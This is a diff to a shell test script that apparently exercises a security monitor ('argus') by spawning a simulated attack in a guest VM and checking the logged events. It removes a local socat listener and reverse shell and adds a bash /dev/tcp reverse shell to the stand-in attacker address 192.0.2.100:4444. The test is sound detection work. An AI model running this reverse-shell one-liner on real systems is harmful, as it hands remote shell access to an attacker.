@@ -33,10 +33,9 @@ YAML
 svc=$!
 sleep 2
 $g run $name -- 'sleep 1 & echo started' >/dev/null
-# an attacker's listener and a reverse shell connecting to it
-$g spawn $name -- 'sleep 100 | socat TCP-LISTEN:4444,reuseaddr -' >/dev/null
-sleep 1
-$g spawn $name -- "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" >/dev/null
+# a reverse shell to an attacker on another machine (192.0.2.100:4444, a
+# listener QEMU's user-mode network runs for the guest: tests/guest/guest.py)
+$g spawn $name -- "bash -c 'exec bash -i >& /dev/tcp/192.0.2.100/4444 0>&1'" >/dev/null
 sleep 3
 kill -TERM $svc; wait $svc || true
 echo; echo "== events written to $dir/events/argus-events.log:"
